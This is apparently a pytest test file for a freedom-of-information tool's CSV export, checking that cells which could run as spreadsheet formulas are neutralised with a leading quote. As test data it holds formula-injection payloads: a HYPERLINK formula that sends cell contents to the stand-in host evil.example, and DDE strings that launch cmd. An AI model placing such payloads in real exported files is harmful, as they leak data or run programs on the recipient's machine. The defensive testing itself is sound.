"""Formula-safe CSV: every cell foi writes for a spreadsheet is shown as the text it is."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from foi.exports import safe_cell, write_csv_rows

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-x",
    "\tleading tab",
    "\rleading CR",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_that_could_run_as_a_formula_is_quoted(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (None, ""),
        (-3, -3),
        (2.5, 2.5),
        (True, True),
        (date(2026, 12, 1), date(2026, 12, 1)),
        ("plain text", "plain text"),
        ("a = b", "a = b"),
        (["=A1", "b"], "'=A1; b"),
    ],
)
def test_other_values_are_left_as_they_are(value: object, expected: object) -> None:
    assert safe_cell(value) == expected


def test_write_csv_rows_quotes_every_cell_and_counts_rows() -> None:
    fh = io.StringIO()
    assert write_csv_rows(fh, ["=h", "b"], [["=1+1", 5], ["ok", None]]) == 2
    assert list(csv.reader(io.StringIO(fh.getvalue()))) == [
        ["'=h", "b"],
        ["'=1+1", "5"],
        ["ok", ""],
    ]


def test_report_answers_csv_neutralises_body_names_and_answers(foi, db_url: str) -> None:
    sign = {"FOI_REQUESTER_NAME": "Jo Bloggs"}

    def run(*args: str):  # type: ignore[no-untyped-def]
        return foi(*args, db=db_url, env=sign, today="2026-12-20")

    assert run("init").exit_code == 0
    # (A body's name is one line, so a tab or carriage return can lead only an answer.)
    names = ['=HYPERLINK("http://evil.example","x")', "@SUM(1+1)", "+cmd", "=2+3 Trust"]
    answers = ["\ttabbed", "\rcarriage", "-x", "@A1"]
    for name, answer in zip(names, answers, strict=True):
        added = run("body", "add", name, "--kind", "other")
        assert added.exit_code == 0, added.stderr
        made = foi(
            "request",
            "new",
            "--body",
            name,
            "--title",
            "SIM",
            "--sent-on",
            "2026-11-02",
            "--json",
            db=db_url,
            env=sign,
            today="2026-11-02",
        )
        assert made.exit_code == 0, made.stderr
        ref = made.json()["reference"]
        done = run(
            "respond",
            ref,
            "--on",
            "2026-12-01",
            "--outcome",
            "successful",
            "--answer",
            f"1={answer}",
        )
        assert done.exit_code == 0, done.stderr
    result = run("report", "answers", "1", "--csv")
    assert result.exit_code == 0, result.stderr
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert rows[0][:2] == ["reference", "body"]
    got = {(r[1], r[4]) for r in rows[1:]}
    assert got == {("'" + n, "'" + a) for n, a in zip(names, answers, strict=True)}
    for row in rows[1:]:
        assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
